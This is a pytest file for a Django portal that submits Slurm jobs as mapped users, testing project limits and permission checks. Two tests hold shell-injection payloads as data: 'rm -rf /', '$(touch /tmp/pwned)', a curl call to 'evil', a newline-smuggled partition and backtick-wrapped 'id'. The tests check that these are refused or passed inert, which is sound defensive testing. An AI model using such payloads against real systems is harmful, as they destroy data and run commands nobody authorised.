"""Submitting through the portal (unit: the SSH transport is a recorder; the Slurm client, its
argv and validation are the real ones): the mapped Slurm user, never root; project limits named
before anything reaches Slurm; injection payloads refused naming the field or passed inert."""
from __future__ import annotations

from dataclasses import dataclass

import pytest
from django.contrib.auth.models import Group

from apps.clusters import connection, submit
from apps.clusters.models import Cluster, Partition, ProjectAccount, SlurmJob, SlurmJobState, SlurmUser
from apps.clusters.slurm import SshSlurm
from apps.core.errors import Forbidden, InvalidInput
from apps.core.models import AuditEvent
from apps.nodes.models import Node
from apps.rbac.models import ProjectRole
from apps.rbac.services import _set_membership, create_project

pytestmark = pytest.mark.django_db


@dataclass
class Result:
    exit_status: int = 0
    stdout: str = "4711\n"
    stderr: str = ""


class Recorder:
    def __init__(self):
        self.calls = []

    def __call__(self, argv, *, stdin=None, timeout):
        self.calls.append((argv, stdin))
        return Result()


@pytest.fixture
def world(make_user, monkeypatch):
    node = Node.objects.create(name="login", address="10.9.0.1")
    project = create_project(None, "vision")
    cluster = Cluster.objects.create(name="gpu1", controller=node, project=project)
    Partition.objects.create(cluster=cluster, name="batch", is_default=True)
    Partition.objects.create(cluster=cluster, name="big")
    account = ProjectAccount.objects.create(cluster=cluster, project=project, account="vision", gpus_per_job=4,
                                            max_wall_min=120, allowed_partitions=["batch"],
                                            max_running_jobs_per_user=2)
    dev = make_user("dana")
    dev.groups.add(Group.objects.get(name="data-developer"))
    _set_membership(project, dev, ProjectRole.MEMBER)
    SlurmUser.objects.create(user=dev, username="dana")
    recorder = Recorder()
    monkeypatch.setattr(connection, "submit_client", lambda cluster, **kw: SshSlurm(recorder, remote_timeout=False))
    from django.contrib.auth import get_user_model
    return {"cluster": cluster, "account": account, "dev": get_user_model().objects.get(pk=dev.pk),
            "run": recorder, "project": project}


SCRIPT = "#!/bin/bash\necho \"$CUDA_VISIBLE_DEVICES\"\n"


def test_submit_runs_sbatch_as_the_mapped_user_with_the_script_on_stdin(world):
    job = submit.submit_job(world["dev"], world["cluster"],
                            submit.JobRequest(script=SCRIPT, name="train", gpus=2, time_limit_min=60))
    (argv, stdin), = world["run"].calls
    assert argv[:5] == ["sudo", "-n", "-u", "dana", "--"] and argv[5:7] == ["sbatch", "--parsable"]
    assert "--account=vision" in argv and "--gres=gpu:2" in argv and "--chdir=/home/dana" in argv
    assert stdin == SCRIPT.encode()
    assert (job.job_id, job.user, job.project, job.submitted_by, job.script) == (
        "4711", "dana", world["project"], world["dev"], SCRIPT)
    assert job.stdout_path == "/home/dana/slurm-4711.out"
    assert AuditEvent.objects.filter(action="slurmjob.submit").count() == 1


def test_a_user_without_a_slurm_user_is_refused_naming_it(world):
    SlurmUser.objects.all().delete()
    with pytest.raises(InvalidInput) as exc:
        submit.submit_job(world["dev"], world["cluster"], submit.JobRequest(script=SCRIPT, time_limit_min=5))
    assert "slurm_user" in exc.value.errors and world["run"].calls == []


def test_a_cluster_mapping_wins_over_the_default(world):
    SlurmUser.objects.create(user=world["dev"], cluster=world["cluster"], username="dana2")
    assert submit.slurm_user_for(world["dev"], world["cluster"]) == "dana2"


@pytest.mark.parametrize("request_values, field, limit", [
    ({"gpus": 3, "nodes": 2}, "gpus", "gpus_per_job = 4"),
    ({"time_limit_min": 121}, "time_limit_min", "max_wall_min = 120"),
    ({"time_limit_min": None}, "time_limit_min", "max_wall_min"),
    ({"partition": "big"}, "partition", "allowed_partitions = batch"),
])
def test_a_submit_over_a_project_limit_is_refused_naming_the_limit(world, request_values, field, limit):
    values = {"script": SCRIPT, "time_limit_min": 30, **request_values}
    with pytest.raises(InvalidInput) as exc:
        submit.submit_job(world["dev"], world["cluster"], submit.JobRequest(**values))
    assert limit in exc.value.errors[field][0]
    assert world["run"].calls == []  # nothing reached Slurm


def test_jobs_in_the_queue_count_against_max_running_jobs_per_user(world):
    for i, state in enumerate([SlurmJobState.RUNNING, SlurmJobState.PENDING]):
        SlurmJob.objects.create(cluster=world["cluster"], job_id=str(100 + i), user="dana", account="vision",
                                state=state)
    SlurmJob.objects.create(cluster=world["cluster"], job_id="99", user="dana", account="vision",
                            state=SlurmJobState.COMPLETED)
    with pytest.raises(InvalidInput) as exc:
        submit.submit_job(world["dev"], world["cluster"], submit.JobRequest(script=SCRIPT, time_limit_min=5))
    assert "max_running_jobs_per_user = 2" in exc.value.errors["account"][0]


def test_an_account_of_another_project_is_refused(world):
    other = create_project(None, "other")
    ProjectAccount.objects.create(cluster=world["cluster"], project=other, account="other")
    with pytest.raises(InvalidInput) as exc:
        submit.submit_job(world["dev"], world["cluster"],
                          submit.JobRequest(script=SCRIPT, account="other", time_limit_min=5))
    assert "account" in exc.value.errors


def test_without_the_permission_nothing_is_submitted(world, make_user):
    engineer = make_user("eng")
    engineer.groups.add(Group.objects.get(name="engineer"))
    with pytest.raises(Forbidden):
        submit.submit_job(engineer, world["cluster"], submit.JobRequest(script=SCRIPT))


@pytest.mark.parametrize("values, field", [
    ({"name": "x; rm -rf /"}, "name"),
    ({"name": "$(touch /tmp/pwned)"}, "name"),
    ({"account": "vision --uid=0"}, "account"),
    ({"partition": "batch\nPartitionName=evil"}, "partition"),
    ({"qos": "normal`id`"}, "qos"),
    ({"script": "echo no shebang"}, "script"),
    ({"work_dir": "relative/dir"}, "work_dir"),
])
def test_injection_payloads_are_refused_naming_the_field(world, values, field):
    world["account"].allowed_partitions = []
    world["account"].save()
    if field == "account":
        ProjectAccount.objects.filter(pk=world["account"].pk).update(account="vision --uid=0")
    with pytest.raises(InvalidInput) as exc:
        submit.submit_job(world["dev"], world["cluster"],
                          submit.JobRequest(**{"script": SCRIPT, "time_limit_min": 5, **values}))
    assert field in exc.value.errors, exc.value.errors
    assert world["run"].calls == []


def test_a_hostile_script_is_one_stdin_blob_never_a_command_line(world):
    script = "#!/bin/bash\n'; rm -rf / #\n$(curl evil) `id` && echo done\n"
    submit.submit_job(world["dev"], world["cluster"], submit.JobRequest(script=script, time_limit_min=5))
    (argv, stdin), = world["run"].calls
    assert stdin == script.encode() and not any("rm -rf" in a or "curl" in a for a in argv)
